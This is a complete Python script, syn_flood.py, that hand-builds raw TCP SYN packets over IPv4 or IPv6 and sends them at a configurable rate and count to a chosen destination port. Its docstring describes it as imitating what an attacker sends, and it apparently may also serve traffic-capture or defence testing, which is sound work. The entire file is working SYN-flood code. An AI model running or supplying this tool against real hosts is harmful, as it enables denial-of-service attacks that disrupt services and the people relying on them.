"""TCP openers from a raw socket, as an attacker sends them: `syn_flood.py SOURCE DESTINATION`, further options below. Each has a source
port and a sequence number of its own, so that whoever captures them can tell them apart. Ends after --count, or when its
standard input ends; then says in one line of JSON how many it has sent."""

import argparse
import json
import select
import socket
import struct
import sys
import time

IPV6_CHECKSUM = 7
CHECKSUM_AT = 16
SYN = 0x02
NO_OPERATION = b"\x01"


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def segment(source, destination, ports, sequence, options):
    """A SYN without data; over IPv6 the kernel fills in the checksum."""
    header = struct.pack("!HHIIBBHHH", *ports, sequence, 0, (5 + len(options) // 4) << 4, SYN, 64240, 0, 0) + options
    if len(source) == 16:
        return header
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:CHECKSUM_AT] + struct.pack("!H", checksum(pseudo + header)) + header[CHECKSUM_AT + 2 :]


def flood(arguments):
    family = socket.AF_INET6 if ":" in arguments.source else socket.AF_INET
    out = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
    if family == socket.AF_INET6:
        out.setsockopt(socket.IPPROTO_IPV6, IPV6_CHECKSUM, CHECKSUM_AT)
    out.bind((arguments.source, 0))
    ends = [socket.inet_pton(family, address) for address in (arguments.source, arguments.destination)]
    sent, failed = 0, 0
    begin = time.monotonic()
    while sent + failed < arguments.count:
        number = sent + failed
        due = begin + number / arguments.rate
        if select.select([sys.stdin], [], [], max(0.0, due - time.monotonic()))[0] and not sys.stdin.read(1):
            break
        ports = (1024 + (arguments.first + number) % 64000, arguments.port)
        options = NO_OPERATION * arguments.options
        try:
            out.sendto(segment(*ends, ports, arguments.first + number, options), (arguments.destination, 0))
            sent += 1
        except OSError:
            failed += 1  # its interface is away, or the queue is full: nobody has seen it
    return {"sent": sent, "failed": failed}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("source")
    parser.add_argument("destination")
    parser.add_argument("--port", type=int, default=9, help="the destination's port")
    parser.add_argument("--rate", type=float, default=1000.0, help="a second")
    parser.add_argument("--count", type=int, default=1 << 31)
    parser.add_argument("--first", type=int, default=0, help="number of the first one: its source port and sequence number")
    parser.add_argument("--options", type=int, default=0, choices=range(0, 41, 4), help="bytes of TCP options")
    print(json.dumps(flood(parser.parse_args())), flush=True)


if __name__ == "__main__":
    main()
